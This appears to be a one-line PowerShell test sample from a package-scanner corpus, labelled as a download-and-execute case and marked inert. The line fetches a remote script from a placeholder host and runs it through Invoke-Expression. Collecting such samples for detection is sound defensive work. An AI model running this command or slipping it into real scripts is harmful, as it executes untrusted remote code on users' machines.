# pkgguard corpus 104 (download-execute), modelled on [empirical]; inert, never run.
$ProgressPreference = 'SilentlyContinue'
iwr -UseBasicParsing https://cdn.example/stage.ps1 | iex
